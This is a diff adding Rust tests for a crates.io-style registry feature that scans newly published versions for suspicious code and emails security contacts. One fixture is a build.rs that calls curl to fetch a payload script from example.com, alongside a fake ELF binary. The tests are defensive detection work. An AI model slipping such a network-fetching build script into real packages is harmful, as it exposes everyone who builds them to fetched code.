@@ -0,0 +1,99 @@
+use crate::builders::PublishBuilder;
+use crate::util::{RequestHelper, TestApp};
+use crates_io::models::VersionScanFinding;
+use crates_io::schema::{crates, versions};
+use diesel::prelude::*;
+use http::StatusCode;
+
+const BUILD_RS: &str = r#"
+    use std::process::Command;
+    fn main() {
+        Command::new("curl").arg("https://example.com/payload.sh").status().unwrap();
+    }
+"#;
+
+fn scan_findings(app: &TestApp, crate_name: &str) -> Vec<(String, String)> {
+    app.db(|conn| {
+        let version_id = versions::table
+            .inner_join(crates::table)
+            .filter(crates::name.eq(crate_name))
+            .select(versions::id)
+            .get_result(conn)
+            .unwrap();
+
+        VersionScanFinding::for_version(version_id, conn)
+            .unwrap()
+            .into_iter()
+            .map(|finding| (finding.rule, finding.path))
+            .collect()
+    })
+}
+
+/// Returns the recipients of the scan notifications.
+fn scan_emails(app: &TestApp) -> Vec<String> {
+    app.as_inner()
+        .emails
+        .mails_in_memory()
+        .unwrap()
+        .into_iter()
+        .filter(|(_, message)| message.contains("Subject: Possible malicious code in new version"))
+        .flat_map(|(envelope, _)| envelope.to().to_vec())
+        .map(|address| address.to_string())
+        .collect()
+}
+
+#[test]
+fn suspicious_version() {
+    let (app, _, _, token) = TestApp::full()
+        .with_config(|config| config.scan_new_versions = true)
+        .with_scanning(|config| config.notification_emails = vec!["security@example.com".into()])
+        .with_token();
+
+    let crate_to_publish = PublishBuilder::new("foo", "1.0.0")
+        .add_file("foo-1.0.0/build.rs", BUILD_RS)
+        .add_file("foo-1.0.0/bin/payload", b"\x7fELF\x02\x01\x01".as_slice());
+    let response = token.publish_crate(crate_to_publish);
+    assert_eq!(response.status(), StatusCode::OK);
+
+    let findings = scan_findings(&app, "foo");
+    let findings = findings
+        .iter()
+        .map(|(rule, path)| (rule.as_str(), path.as_str()))
+        .collect::<Vec<_>>();
+    assert_eq!(
+        findings,
+        vec![
+            ("binary_file", "bin/payload"),
+            ("build_script_network_access", "build.rs"),
+            ("build_script_process", "build.rs"),
+        ]
+    );
+
+    assert_eq!(scan_emails(&app), vec!["security@example.com"]);
+}
+
+#[test]
+fn clean_version() {
+    let (app, _, _, token) = TestApp::full()
+        .with_config(|config| config.scan_new_versions = true)
+        .with_scanning(|config| config.notification_emails = vec!["security@example.com".into()])
+        .with_token();
+
+    let response = token.publish_crate(PublishBuilder::new("foo", "1.0.0"));
+    assert_eq!(response.status(), StatusCode::OK);
+
+    assert_eq!(scan_findings(&app, "foo"), vec![]);
+    assert_eq!(scan_emails(&app), Vec::<String>::new());
+}
+
+#[test]
+fn scanning_disabled() {
+    let (app, _, _, token) = TestApp::full().with_token();
+
+    let crate_to_publish =
+        PublishBuilder::new("foo", "1.0.0").add_file("foo-1.0.0/build.rs", BUILD_RS);
+    let response = token.publish_crate(crate_to_publish);
+    assert_eq!(response.status(), StatusCode::OK);
+
+    assert_eq!(scan_findings(&app, "foo"), vec![]);
+}